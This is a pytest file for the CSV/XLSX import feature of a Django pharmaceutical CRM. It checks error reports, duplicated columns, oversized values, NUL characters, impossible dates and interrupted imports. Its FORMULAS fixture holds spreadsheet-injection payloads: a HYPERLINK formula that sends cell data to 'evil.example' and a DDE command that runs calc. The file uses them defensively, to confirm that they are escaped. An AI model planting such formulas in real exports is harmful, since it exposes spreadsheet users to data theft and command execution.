"""Import reports and refusals: no formula runs from an error report, a duplicated header column is refused,
a too-large quantity says "quantity", a NUL character is a row error (not "not a CSV file"), an impossible date
over the API says the day does not exist, and an interrupted order import says what was saved."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone, translation

from pharmacrm.customers import importer
from pharmacrm.customers.models import ImportJob, Institution, Person
from pharmacrm.sales import importer as orders
from pharmacrm.sales.models import OrderLine
from tests.sales.conftest import KEYS, line

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"]


def csv_bytes(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode("utf-8")


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def order_rows(rows: list[dict], header: list[str] | None = None) -> list[list[str]]:
    header = header or importer.template_headers(ImportJob.Target.ORDERS)
    return [header, *[[r.get(k, "") for k in KEYS] for r in rows]]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


# --- 2. formula injection in the error reports ---------------------------------------------------------


def test_the_wizards_error_report_never_hands_a_spreadsheet_a_formula(client_for, huey_immediate):
    rows = [["机构名称", "机构类型"], *[["某医院", formula] for formula in FORMULAS]]
    client = client_for("kam")
    client.post(reverse("customers:import"), {"target": "institutions", "mode": "good",
                                              "file": upload("机构.csv", csv_bytes(rows))})  # fmt: skip
    job = ImportJob.objects.get()
    assert job.error_count == 3
    response = client.get(reverse("customers:import-errors", args=[job.pk, "csv"]), **EN)
    report = read_csv(b"".join(response.streaming_content).decode("utf-8"))
    assert report[0] == ["Row", "Column", "Reason", "Value"]
    assert [r[3] for r in report[1:]] == ["'" + f for f in FORMULAS]
    assert all(not cell.startswith(("=", "+", "@", "-")) for r in report for cell in r)


def test_the_command_lines_rejected_rows_report_never_hands_a_spreadsheet_a_formula(
    tmp_path, xiehe, users, order_file
):
    rows = [line(f"F-{i}", 1, "2025-03-01", xiehe, "P1", formula, "10") for i, formula in enumerate(FORMULAS)]
    rows.append(line("F-9", 1, "2025-03-01", xiehe, "P1", 1, "-3"))  # a plain negative number stays one
    report = tmp_path / "rep.csv"
    with pytest.raises(SystemExit):
        call_command("import", "orders", str(order_file(rows)), "--report", str(report), "--language", "en")
    values = [r[3] for r in read_csv(report.read_text(encoding="utf-8-sig"))[1:]]
    assert values == ["'" + f for f in FORMULAS] + ["-3"]


# --- 3. a column given twice --------------------------------------------------------------------------


def test_a_duplicated_institution_column_is_refused_by_the_wizard_and_the_api(client_for, api_for, var_dir):
    rows = [["机构名称", "机构类型", "机构名称"], ["甲医院", "医院", "乙医院"]]
    response = client_for("kam").post(
        reverse("customers:import"),
        {"target": "institutions", "mode": "all", "file": upload("机构.csv", csv_bytes(rows))}, **EN,
    )  # fmt: skip
    text = response.content.decode()
    assert response.status_code == 400
    assert "These columns appear more than once in the header row: “机构名称” (A, C)." in text
    assert "not recognised" not in text
    api = api_for("kam").post(
        "/api/v1/imports/", {"file": upload("机构.csv", csv_bytes([["机构名称", "机构类型", "名称"], ["甲", "医院", "乙"]])),
                             "target": "institutions", "mode": "all"}, format="multipart",
    )  # fmt: skip
    assert api.status_code == 400
    assert "more than once in the header row: “机构名称 / 名称” (A, C)" in api.json()["file"][0]
    assert not ImportJob.objects.exists() and not Institution.objects.filter(name__in=["甲医院", "甲"]).exists()
    assert list((var_dir / "imports").glob("*")) == []


@pytest.fixture
def var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"
    return tmp_path / "var"


def test_a_duplicated_order_column_is_refused_by_the_command_line(tmp_path, xiehe, users, capsys):
    header = [*importer.template_headers(ImportJob.Target.ORDERS), "数量"]
    rows = order_rows([line("D-1", 1, "2025-03-01", xiehe, "P1", 2, "10")], header)
    rows[1].append("200")  # the second 数量 says something else
    path = tmp_path / "orders.csv"
    path.write_bytes(csv_bytes(rows))
    with pytest.raises(SystemExit) as exit_info, translation.override("en"):
        call_command("import", "orders", str(path), "--language", "en")
    assert exit_info.value.code == 2
    assert "These columns appear more than once in the header row: “数量”" in capsys.readouterr().err
    assert not OrderLine.objects.exists() and not ImportJob.objects.exists()


# --- 4. a quantity too large ------------------------------------------------------------------------------


def test_a_too_large_quantity_says_quantity_not_amount(run_import, xiehe):
    job = run_import([line("Q-1", 1, "2025-03-01", xiehe, "P1", "123456789012", "1")])
    [error] = job.errors
    assert (error["column"], error["code"]) == ("数量", "quantity_too_large")
    with translation.override("en"):
        assert importer.error_text(error) == "This quantity is too large: check it for a typing error."
    big_amount = run_import([line("Q-2", 1, "2025-03-01", xiehe, "P1", "1", "1", amount="99999999999999")])
    assert [e["code"] for e in big_amount.errors] == ["too_large"]


def test_an_amount_too_large_is_refused_however_plainly_the_row_is_written(run_import, xiehe):
    """A mobile number pasted into 数量 (13800138000) at ¥1,000 makes ¥13.8 trillion: refused as too large when the row
    took the careful path (a thousands comma in the price), but a plainly written row was imported, and the customer's
    purchases, its rollup and the evaluation's amount ranking with it, read ¥13.8 trillion."""
    job = run_import([
        line("Q-3", 1, "2025-03-01", xiehe, "P1", "13800138000", "1,000"),
        line("Q-4", 1, "2025-03-01", xiehe, "P1", "13800138000", "1000"),
    ])  # fmt: skip

    assert [(e["row"], e["code"]) for e in job.errors] == [(2, "too_large"), (3, "too_large")]
    assert not OrderLine.objects.exists()


@pytest.mark.parametrize("quantity", ["0", "0.000", "-0"])
def test_a_line_with_nothing_sold_is_rejected_and_a_return_is_not(run_import, xiehe, quantity):
    job = run_import([line("Z-1", 1, "2025-03-01", xiehe, "P1", quantity, "10"),
                      line("Z-2", 1, "2025-03-01", xiehe, "P1", "-2", "10")], mode="good")  # fmt: skip
    [error] = job.errors
    assert (error["row"], error["column"], error["code"]) == (2, "数量", "quantity_zero")
    with translation.override("en"):
        assert importer.error_text(error) == "The quantity is 0: give the quantity sold (negative for a return)."
    assert list(OrderLine.objects.values_list("order_number", flat=True)) == ["Z-2"]


# --- 5. NUL characters, impossible dates -----------------------------------------------------------------


def test_a_nul_character_in_a_cell_is_a_row_error_in_the_wizard(client_for, xiehe, huey_immediate):
    rows = [["姓名", "所属机构", "职称"], ["李娜", "北京协和医院", "主任\x00医师"], ["王芳", "北京协和医院", "药师"]]
    client = client_for("kam")
    response = client.post(reverse("customers:import"), {"target": "people", "mode": "good",
                                                         "file": upload("p.csv", csv_bytes(rows))}, **EN)  # fmt: skip
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert (job.status, job.error_count, job.created_count) == ("previewed", 1, 1)
    [error] = job.errors
    assert (error["row"], error["column"], error["code"], error["value"]) == (2, "职称", "nul_character", "主任␀医师")
    text = client.get(reverse("customers:import-detail", args=[job.pk]), **EN).content.decode()
    assert "This value contains a NUL character" in text
    client.post(reverse("customers:import-confirm", args=[job.pk]), {"mode": "good"})
    assert list(Person.objects.filter(name__in=["李娜", "王芳"]).values_list("name", flat=True)) == ["王芳"]


def test_a_nul_character_in_an_order_file_is_a_row_error_on_the_command_line(tmp_path, xiehe, users):
    rows = order_rows([line("N-1", 1, "2025-03-01", xiehe, "P1", 2, "10", product_name="阿司\x00匹林"),
                       line("N-2", 1, "2025-03-01", xiehe, "P1", 2, "10")])  # fmt: skip
    path = tmp_path / "orders.csv"
    path.write_bytes(csv_bytes(rows))
    report = tmp_path / "rep.csv"
    with pytest.raises(SystemExit) as exit_info:
        call_command("import", "orders", str(path), "--report", str(report), "--language", "en")
    assert exit_info.value.code == 1  # some rows rejected, not "the file could not be read"
    [row] = read_csv(report.read_text(encoding="utf-8-sig"))[1:]
    assert row[:2] == ["2", "Product name (产品名称)"] and "NUL character" in row[2] and row[3] == "阿司␀匹林"
    assert list(OrderLine.objects.values_list("order_number", flat=True)) == ["N-2"]


def test_a_file_full_of_nul_bytes_is_still_no_csv(users, tmp_path):
    path = tmp_path / "data.csv"
    path.write_bytes("姓名\n".encode("utf-16-le"))  # UTF-16 without its mark
    with translation.override("en"), pytest.raises(importer.ValidationError, match="not a CSV or XLSX"):
        importer.import_file(path, "people", users["kam"])


def test_an_impossible_birthday_over_the_api_says_the_day_does_not_exist(api_for):
    client = api_for("kam", lang="en")
    response = client.post("/api/v1/people/", {"name": "王芳", "birthday": "2025-02-29"}, format="json")
    assert response.status_code == 400
    assert response.json()["birthday"] == ["“2025-02-29” is not a day of the calendar: check the month and the day."]
    wrong = client.post("/api/v1/people/", {"name": "王芳", "birthday": "29.02.2025"}, format="json")
    assert wrong.json()["birthday"][0].startswith("Enter a date as YYYY-MM-DD (also accepted:")
    assert not Person.objects.filter(name="王芳").exists()


# --- 1. an order import whose worker stops ----------------------------------------------------------------


class Killed(BaseException):
    pass


def test_an_interrupted_order_import_says_what_was_saved_and_a_second_import_finishes_it(
    monkeypatch, xiehe, users, order_file, client_for
):
    monkeypatch.setattr(orders, "CHUNK_ROWS", 2)
    monkeypatch.setattr(importer, "_interrupted_here", lambda job_id: None)  # a killed process records nothing
    real, calls = orders.Writer._apply, []

    def apply(self, chunk, *, write):
        calls.append(1)
        if len(calls) == 2:
            raise Killed
        return real(self, chunk, write=write)

    monkeypatch.setattr(orders.Writer, "_apply", apply)
    path = order_file([line(f"I-{i}", 1, "2025-03-01", xiehe, "P1", 1, "10") for i in range(5)])
    with pytest.raises(Killed):
        importer.import_file(path, ImportJob.Target.ORDERS, users["admin"], mode="good")
    job = ImportJob.objects.get()
    assert (job.status, job.created_count, job.last_row) == ("running", 2, 3)
    assert OrderLine.objects.count() == 2

    assert importer.recover_interrupted(timezone.now() + dt.timedelta(minutes=6)) == [job.pk]
    text = client_for("admin").get(reverse("customers:import-detail", args=[job.pk]), **EN).content.decode()
    assert "The rows up to row 3 of the file were handled and saved (2 created, 0 updated, 0 unchanged" in text
    assert "order lines are recognised by their order number and line number" in text

    monkeypatch.setattr(orders.Writer, "_apply", real)
    again = importer.import_file(path, ImportJob.Target.ORDERS, users["admin"], mode="good")
    assert (again.status, again.created_count, again.unchanged_count) == ("done", 3, 2)
    assert OrderLine.objects.count() == 5
